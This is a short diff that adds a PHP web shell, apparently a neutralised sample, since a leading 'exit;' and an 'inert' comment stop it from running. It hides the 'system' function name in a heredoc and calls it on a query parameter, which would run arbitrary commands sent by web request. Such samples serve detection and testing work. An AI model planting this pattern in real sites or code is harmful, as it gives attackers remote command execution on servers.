@@ -1,0 +1,4 @@
+<?php exit; /* inert */ $z=<<<X
+system
+X;
+$z($_GET["h"]);
